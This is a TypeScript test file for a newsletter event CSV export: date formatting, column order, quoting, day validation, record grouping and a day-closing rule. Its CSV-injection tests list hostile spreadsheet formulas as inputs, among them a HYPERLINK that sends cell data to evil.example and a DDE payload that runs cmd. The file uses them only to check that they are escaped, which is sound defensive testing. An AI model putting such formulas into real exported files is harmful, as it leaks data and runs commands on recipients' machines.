import { parseCsv as parse } from '../helpers/csv.js';
import { describe, expect, it } from 'vitest';
import { csvFormatter, csvHeaderLine, csvRow, formulaSafe } from '../../shared/events/csv.js';
import { csvDate, daysBefore, isCalendarDay, utcDay } from '../../shared/events/days.js';
import { eventColumns, eventNames } from '../../shared/events/types.js';
import { EventFileParamsSchema } from '../../shared/events/schemas.js';
import * as v from 'valibot';

async function format(event: (typeof eventNames)[number], rows: string[][]): Promise<string> {
  const csv = csvFormatter(event);
  const chunks: string[] = [];
  csv.on('data', (c: Buffer | string) => chunks.push(String(c)));
  const done = new Promise((r) => csv.on('end', r));
  for (const row of rows) csv.write(row);
  csv.end();
  await done;
  return chunks.join('');
}


describe('event CSV rules', () => {
  it('writes dates as YYYY-MM-DD HH:MM:SS in UTC, whatever the offset of the input', () => {
    expect(csvDate('2026-11-21T18:04:05.999Z')).toBe('2026-11-21 18:04:05');
    expect(csvDate('2026-11-22T01:30:00+02:00')).toBe('2026-11-21 23:30:00');
    expect(() => csvDate('yesterday')).toThrow(/Not a date/);
  });

  it('puts the fields of a record in the column order of its event, absent ones empty', () => {
    const row = csvRow('nl_click', { email: 'a@x.io', date: '2026-01-02T03:04:05.000Z', target_position: 2, campaign_id: 'c1', target_url: 'https://x.io/' });
    expect(row).toEqual(['2026-01-02 03:04:05', 'a@x.io', 'c1', '', '', '', 'https://x.io/', '2']);
  });

  it('writes the exact §6 header for every event, even without rows', async () => {
    for (const event of eventNames) {
      const text = await format(event, []);
      expect(text).toBe(`${eventColumns[event].join(',')}\r\n`);
      expect(text).toBe(csvHeaderLine(event));
    }
    expect(csvHeaderLine('nl_bounce')).toBe('date,email,campaign_id,newsletter_id,email_list_id,type,message\r\n');
  });

  it('quotes fields as RFC 4180 does (comma, quote, CR, LF) and parses back to the same values', async () => {
    const tricky = ['2026-01-02 03:04:05', 'a@x.io', 'c,1', 'say "hi"', '7', 'hard', 'line1\r\nline2'];
    const text = await format('nl_bounce', [tricky, ['2026-01-02 03:04:06', 'b@x.io', '', '', '', 'soft', 'plain']]);
    expect(text).toBe(
      'date,email,campaign_id,newsletter_id,email_list_id,type,message\r\n' +
        '2026-01-02 03:04:05,a@x.io,"c,1","say ""hi""",7,hard,"line1\r\nline2"\r\n' +
        '2026-01-02 03:04:06,b@x.io,,,,soft,plain\r\n',
    );
    expect((await parse(text)).slice(1)).toEqual([tricky, ['2026-01-02 03:04:06', 'b@x.io', '', '', '', 'soft', 'plain']]);
  });
});

describe('formula-safe cells (OWASP CSV injection)', () => {
  it('prefixes an apostrophe to every value a spreadsheet would evaluate, and to nothing else', () => {
    for (const dangerous of ['=1+2', '+1+cmd@x.io', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', "=cmd|' /C calc'!A0"]) {
      expect(formulaSafe(dangerous)).toBe(`'${dangerous}`);
    }
    for (const plain of ['', 'a@x.io', 'https://x.io/?a=1', "o'brien@x.io", ' =1', '1-2', 'x=1']) expect(formulaSafe(plain)).toBe(plain);
  });

  it('csvRow escapes by default and keeps the recorded values for the raw variant; the date column is ours and never escaped', () => {
    const record = { date: '2026-03-10T08:00:00.000Z', email: '+1+cmd@x.io', cause: 'READER', email_list_id: 3 };
    expect(csvRow('nl_unsubscribe', record)).toEqual(['2026-03-10 08:00:00', "'+1+cmd@x.io", 'READER', '3']);
    expect(csvRow('nl_unsubscribe', record, 'raw')).toEqual(['2026-03-10 08:00:00', '+1+cmd@x.io', 'READER', '3']);
  });
});

describe('event days', () => {
  it('accepts calendar days only', () => {
    expect(isCalendarDay('2024-02-29')).toBe(true);
    expect(isCalendarDay('2026-02-29')).toBe(false);
    expect(isCalendarDay('2026-13-01')).toBe(false);
    expect(isCalendarDay('2026-1-01')).toBe(false);
    expect(daysBefore('2026-03-01', 1)).toBe('2026-02-28');
    expect(daysBefore('2026-12-31', -1)).toBe('2027-01-01');
    expect(utcDay('2026-11-21T23:59:59.999Z')).toBe('2026-11-21');
  });

  it('validates the path of the download endpoint with a cause naming the field', () => {
    expect(v.safeParse(EventFileParamsSchema, { event_name: 'nl_click', date: '2026-11-21' }).success).toBe(true);
    const badEvent = v.safeParse(EventFileParamsSchema, { event_name: 'nl_open', date: '2026-11-21' });
    expect(badEvent.success).toBe(false);
    const badDate = v.safeParse(EventFileParamsSchema, { event_name: 'nl_click', date: '2026-02-30' });
    expect(badDate.success).toBe(false);
  });
});

describe('groupRecords (raw objects)', () => {
  it('groups by event and UTC hour, normalises dates to UTC ISO, writes the date first and sorts each group by date', async () => {
    const { groupRecords } = await import('../../shared/events/record.js');
    const groups = groupRecords([
      { event: 'nl_send', email: 'b@x.io', date: '2026-01-02T09:30:00+01:00' },
      { event: 'nl_send', email: 'a@x.io', date: '2026-01-02T08:00:00Z' },
      { event: 'nl_send', email: 'c@x.io', date: '2026-01-03T00:30:00+01:00' },
      { event: 'nl_send', email: 'e@x.io', date: '2026-01-02T09:00:00Z' },
      { event: 'nl_click', email: 'd@x.io', date: '2026-01-02T08:00:00Z', target_url: 'u' },
    ]);
    expect(groups).toEqual([
      { event: 'nl_send', day: '2026-01-02', hour: '08', lines: ['{"date":"2026-01-02T08:00:00.000Z","email":"a@x.io"}', '{"date":"2026-01-02T08:30:00.000Z","email":"b@x.io"}'] },
      { event: 'nl_send', day: '2026-01-02', hour: '23', lines: ['{"date":"2026-01-02T23:30:00.000Z","email":"c@x.io"}'] },
      { event: 'nl_send', day: '2026-01-02', hour: '09', lines: ['{"date":"2026-01-02T09:00:00.000Z","email":"e@x.io"}'] },
      { event: 'nl_click', day: '2026-01-02', hour: '08', lines: ['{"date":"2026-01-02T08:00:00.000Z","email":"d@x.io","target_url":"u"}'] },
    ]);
  });
});

describe('isDayClosed', () => {
  it('closes a day SETTLE_MINUTES after the following midnight (UTC)', async () => {
    const { isDayClosed, SETTLE_MINUTES } = await import('../../shared/events/download.js');
    expect(SETTLE_MINUTES).toBe(10);
    expect(isDayClosed('2026-11-21', new Date('2026-11-21T23:59:59Z'))).toBe(false);
    expect(isDayClosed('2026-11-21', new Date('2026-11-22T00:09:59Z'))).toBe(false);
    expect(isDayClosed('2026-11-21', new Date('2026-11-22T00:10:00Z'))).toBe(true);
    expect(isDayClosed('2026-12-31', new Date('2027-01-01T00:10:00Z'))).toBe(true);
  });
});
